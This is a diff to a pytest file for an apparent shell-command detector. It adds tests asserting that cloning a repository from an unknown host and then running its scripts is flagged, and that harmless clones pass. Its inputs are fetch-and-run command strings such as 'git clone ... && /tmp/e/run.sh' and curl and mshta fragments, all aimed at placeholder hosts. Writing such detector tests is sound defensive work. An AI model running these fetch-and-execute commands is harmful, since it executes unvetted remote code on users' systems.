@@ -83,6 +83,47 @@ def test_harmless_downloads_are_accepted(commands):
     assert seen(commands) == set()
 
 
-@pytest.mark.parametrize("unit", ["curl -o a b;", "./a;", "curl -o a https://a.invalid/a\n", "curl ", "mshta ", "; "])
+@pytest.mark.parametrize(
+    "commands",
+    [
+        "git clone https://git.tables.example/a/e /tmp/e && /tmp/e/run.sh",
+        "git clone -q https://git.tables.example/a/e.git\ncd e && npm install",
+        "git clone ssh://git@git.tables.example/a/e.git\ncd ./e\npython3 run.py",
+        "git clone https://git.tables.example/a/e $HOME/.e; sh $HOME/.e/x/run.sh",
+    ],
+)
+def test_a_clone_from_an_unknown_host_that_is_started_is_found(commands):
+    assert seen(commands) == {"SH114"}
+    assert seen(commands.replace("tables.example", "tables.invalid")) == {"SH113"}
+    assert seen(commands.replace("git.tables.example", "github.com")) == set()
+    assert seen(commands.replace("git.tables.example", "localhost")) == set()
+
+
+@pytest.mark.parametrize(
+    "commands",
+    [
+        "git clone https://git.tables.example/a/e\nls e",
+        "git clone https://git.tables.example/a/e\nmake test",
+        "git clone https://git.tables.example/a/e\ncd e\ngit log\ncd ..\n./own.sh",
+        "git clone $URL e && e/run.sh",
+    ],
+)
+def test_harmless_clones_are_accepted(commands):
+    assert seen(commands) == set()
+
+
+@pytest.mark.parametrize(
+    "unit",
+    [
+        "git clone https://a.invalid/a b;b/c;",
+        "cd a;",
+        "curl -o a b;",
+        "./a;",
+        "curl -o a https://a.invalid/a\n",
+        "curl ",
+        "mshta ",
+        "; ",
+    ],
+)
 def test_attack_many_commands_take_linear_time(unit):
     assert is_linear(lambda size: seen(unit * (size // len(unit))), 8_000)
